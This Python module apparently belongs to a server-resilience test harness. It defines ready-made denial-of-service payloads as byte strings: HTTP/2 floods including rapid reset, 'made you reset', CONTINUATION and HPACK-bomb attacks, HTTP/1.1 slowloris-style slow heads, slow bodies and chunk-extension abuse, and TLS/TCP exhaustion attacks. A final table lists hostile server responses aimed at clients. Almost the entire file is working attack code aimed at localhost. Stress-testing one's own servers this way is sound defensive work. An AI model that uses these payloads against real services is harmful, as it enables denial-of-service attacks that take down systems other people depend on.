"""What attackers do. Each attack is bytes that are made once; see Attacker for how they are sent."""

import dataclasses
import ssl

from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE
from frames import begin, frame, get, literal, put, request, streams

HOST = b"\r\nHost: localhost\r\n"
LARGEST = (2**31 - 1).to_bytes(4, "big")
CALM = b"\0\0\0\x08"


@dataclasses.dataclass(frozen=True)
class Attack:
    """
    opens    the bytes that a connection begins with
    repeats  sent behind it again and again, as fast as they are taken
    pause    seconds between two of them; None is as soon as possible
    reads    whether answers are read
    tls      whether there is TLS; without, the bytes are sent as they are
    alpn     what is asked for with TLS
    flood    for a flood, how many connections are kept open: a new one takes the place of the oldest, as fast as one
             processor can
    """

    name: str
    opens: bytes = b""
    repeats: bytes = b""
    pause: float | None = None
    reads: bool = True
    tls: bool = True
    alpn: str = "http/1.1"
    flood: int = 0


def h2(name, opens=b"", repeats=b"", window=None, **more):
    return Attack(name, begin(window) + opens, repeats, alpn="h2", **more)


def bomb():
    """An entry of 4,000 bytes in the table of HPACK, and 8,000 references to it in each head."""
    first = put(1, more=literal(b"x", b"y" * 3900, 0x40))
    refers = streams(100, lambda number: get(number + 2, more=b"\xbe" * 8000))
    return first + refers


def hello():
    """A ClientHello as OpenSSL makes it."""
    told = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), told, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return told.read()


HELLO = bytes.fromhex("16030140000100ffff0303") + bytes(16 * 1024)  # a ClientHello of 64 KiB that goes on
CHUNKED = b"PUT /sink HTTP/1.1" + HOST + b"Transfer-Encoding: chunked\r\n\r\n"
SLOW = b"PUT /sink HTTP/1.1" + HOST + b"Content-Length: 1000000\r\n\r\n"

ATTACKS = [
    # Floods over HTTP/2.
    h2("h2 ping", repeats=frame(PING, 0, 0, b"whatever") * 900),
    h2("h2 settings", repeats=frame(SETTINGS) * 900),
    h2("h2 settings, nothing read", repeats=frame(SETTINGS) * 900, reads=False),
    h2("h2 window updates", repeats=frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 900),
    h2("h2 priority", repeats=frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 900),
    h2("h2 unknown frames", repeats=frame(0xBE) * 900),
    h2("h2 goaway", repeats=frame(GOAWAY, 0, 0, bytes(8)) * 900),
    h2("h2 empty data", put(1), frame(DATA, 0, 1) * 900),
    h2("h2 padding only", put(1), frame(DATA, 8, 1, b"\xff" + bytes(255)) * 60),
    h2("h2 data of one byte", put(1), frame(DATA, 0, 1, b"x") * 900),
    h2("h2 continuation", frame(HEADERS, 0, 1, request()[:5]), frame(CONTINUATION, 0, 1) * 900),
    h2("h2 continuation, full", frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1, bytes(16384))),
    h2("h2 rapid reset", streams(5000, lambda number: get(number) + frame(RESET, 0, number, CALM))),
    h2("h2 made you reset: increment 0", streams(5000, lambda number: get(number) + frame(WINDOW_UPDATE, 0, number, bytes(4)))),
    h2("h2 made you reset: overflow", streams(5000, lambda number: get(number) + frame(WINDOW_UPDATE, 0, number, LARGEST))),
    h2("h2 made you reset: behind the end", streams(5000, lambda number: get(number) + frame(DATA, 0, number, b"x"))),
    h2("h2 made you reset: short priority", streams(5000, lambda number: get(number) + frame(PRIORITY, 0, number, bytes(4)))),
    h2("h2 malformed heads", streams(5000, lambda number: get(number, more=literal(b"Upper", b"case")))),
    h2("h2 late data", put(1) + frame(RESET, 0, 1, CALM), frame(DATA, 0, 1, b"late") * 900),
    h2("h2 hpack bomb", bomb()),
    h2("h2 a head that never ends", frame(HEADERS, 0, 1, request()[:5]), b"", pause=1),
    h2("h2 windows of zero", streams(100, lambda number: get(number, b"/source?bytes=1048576")), b"", 0, pause=1),
    h2("h2 downloads, nothing read", streams(100, lambda number: get(number, b"/source?bytes=1048576")), b"", 2**20, pause=1, reads=False),
    # HTTP/1.1.
    Attack("h1 slow heads", b"GET / HTTP/1.1" + HOST, b"X", pause=1),
    Attack("h1 slow bodies", SLOW, b"x", pause=1),
    Attack("h1 slow readers", b"GET /source?bytes=104857600 HTTP/1.1" + HOST + b"\r\n", b"", pause=1, reads=False),
    Attack("h1 pipelined, nothing read", b"", (b"GET / HTTP/1.1" + HOST + b"\r\n") * 400, reads=False),
    Attack("h1 chunk extensions", CHUNKED, b"1" + b";x=y" * 2000 + b"\r\nx\r\n"),
    Attack("h1 chunks of one byte", CHUNKED, b"1\r\nx\r\n" * 2700),
    Attack("h1 large heads", b"", b"GET / HTTP/1.1" + HOST + b"X: " + b"x" * 60000),
    Attack("h1 malformed heads", b"", b"GET / HTTP/1.1\r\nHost : localhost\r\n\r\n" * 400),
    # TLS and below.
    Attack("tcp idle", pause=1, tls=False),
    Attack("tcp connect and close", pause=0, tls=False),
    Attack("tls idle", pause=1),
    Attack("tls large hello", HELLO, pause=1, tls=False),
    Attack("tls hello that drips", HELLO[:200], b"\0", pause=0.2, tls=False),
    Attack("tls garbage", b"GET / HTTP/1.1\r\n\r\n" * 100, pause=0, tls=False),
    Attack("tls records of one byte", SLOW, b"x", pause=0.0005),
    Attack("tls hellos, and gone", hello(), flood=1, tls=False),
    Attack("tls hellos that stay", hello(), flood=1000, tls=False),
]


def ask(path):
    """What a server does to whoever asks it: the attackers only ask."""
    return Attack(path, b"", f"GET {path} HTTP/1.1".encode() + HOST + b"\r\n", pause=0.2)


FLOOD = 900


def head(stream):
    return frame(HEADERS, END_HEADERS, stream, b"\x88")


SERVERS = {
    "server: ping": lambda stream: (b"", frame(PING, 0, 0, b"whatever") * FLOOD),
    "server: settings": lambda stream: (b"", frame(SETTINGS) * FLOOD),
    "server: window updates": lambda stream: (b"", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * FLOOD),
    "server: empty data": lambda stream: (head(stream), frame(DATA, 0, stream) * FLOOD),
    "server: continuation": lambda stream: (frame(HEADERS, 0, stream), frame(CONTINUATION, 0, stream) * FLOOD),
    "server: endless head": lambda stream: (frame(HEADERS, 0, stream), frame(CONTINUATION, 0, stream, bytes(16384))),
    "server: goaway": lambda stream: (b"", frame(GOAWAY, 0, 0, bytes(8)) * FLOOD),
    "server: resets": lambda stream: (frame(RESET, 0, stream, b"\0\0\0\2"), b""),
    "server: window overflow": lambda stream: (frame(WINDOW_UPDATE, 0, 0, LARGEST), b""),
    "server: h1 endless head": lambda stream: (b"HTTP/1.1 200 OK\r\n", b"x: y\r\n" * FLOOD),
    "server: h1 interim heads": lambda stream: (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * FLOOD),
    "server: h1 chunk extensions": lambda stream: (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", b"1" + b";x=y" * 900 + b"\r\nx\r\n"),
    "server: h1 more than asked for": lambda stream: (b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" * FLOOD),
}
